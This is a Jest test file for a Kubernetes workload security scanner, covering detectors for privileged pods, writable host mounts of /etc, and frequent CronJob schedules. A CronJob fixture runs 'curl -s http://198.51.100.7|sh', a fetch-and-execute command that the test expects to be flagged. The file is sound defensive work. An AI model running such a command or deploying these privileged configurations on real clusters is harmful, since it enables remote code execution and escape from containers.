import { inspectWorkload } from '../../../../lambdas/core/detectors';
import { parseWorkload } from '../../../../lambdas/core/parsing/workload';
import { workloadExample } from '../../../../lambdas/core/detectors/audit-example';

const pod = (spec: Record<string, unknown>) => ({
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name: 'agent', namespace: 'shop', uid: 'uid-agent' },
  spec,
});

const found = (object: unknown) =>
  inspectWorkload(parseWorkload('prod-a', object) ?? workloadExample()).map(
    ({ detector, indicators, weight }) => `${detector} ${weight} ${indicators.join(' ')}`,
  );

const mounting = (path: string, mounts: readonly Record<string, unknown>[]) =>
  pod({
    volumes: [{ name: 'host', hostPath: { path } }],
    containers: [{ name: 'a', image: 'registry.example/a', volumeMounts: mounts }],
  });

describe('KM-A13', () => {
  test('reads privileges where Kubernetes keeps them', () => {
    const object = pod({
      hostPID: true,
      hostIPC: true,
      hostNetwork: true,
      containers: [
        { name: 'a', securityContext: { privileged: true, capabilities: { add: ['CAP_SYS_ADMIN', 'CHOWN'] } } },
      ],
    });
    expect(found(object)).toEqual(['KM-A13 moderate privileged hostPID hostIPC hostNetwork SYS_ADMIN']);
  });

  test('takes one privilege for little', () => {
    expect(found(pod({ hostNetwork: true, containers: [] }))).toEqual(['KM-A13 weak hostNetwork']);
  });

  test('finds them in a custom resource', () => {
    const object = {
      kind: 'Workflow',
      apiVersion: 'argoproj.io/v1alpha1',
      metadata: { name: 'w' },
      spec: { t: [{ hostPID: true, containers: [{ name: 'a', image: 'a' }] }] },
    };
    expect(found(object)).toEqual(['KM-A13 weak hostPID']);
  });
});

describe('KM-A14', () => {
  test('counts a place that one of several containers may write to', () => {
    expect(found(mounting('/etc/', [{ name: 'host', readOnly: true }, { name: 'host' }]))).toEqual([
      'KM-A14 moderate /etc',
    ]);
  });

  test.each([
    ['may only be read', mounting('/', [{ name: 'host', readOnly: true }])],
    ['is mounted by nobody', mounting('/', [])],
    ['is an ordinary directory', mounting('/data', [{ name: 'host' }])],
  ])('leaves alone what %s', (_name, object) => {
    expect(found(object)).toEqual([]);
  });

  test('misses a place below a dangerous one', () => {
    expect(found(mounting('/etc/systemd/system', [{ name: 'host' }]))).toEqual([]);
  });
});

describe('KM-A12', () => {
  const cronJob = (schedule: string) => ({
    kind: 'CronJob',
    apiVersion: 'batch/v1',
    metadata: { name: 'tidy', namespace: 'shop', uid: 'uid-tidy' },
    spec: {
      schedule,
      jobTemplate: {
        spec: {
          template: { spec: { containers: [{ name: 'a', command: ['sh', '-c', 'curl -s http://198.51.100.7|sh'] }] } },
        },
      },
    },
  });

  test.each(['* * * * *', '*/5 * * * *', 'TZ=Europe/Berlin 0 * * * *', '0,30 * * * *'])('sees %s', (schedule) => {
    expect(found(cronJob(schedule))).toContain(`KM-A12 moderate schedule ${schedule}`);
  });

  test('leaves a nightly schedule to KM-A06', () => {
    expect(found(cronJob('0 2 * * *'))).toEqual(['KM-A06 moderate download piped to a shell http://198.51.100.7']);
  });
});
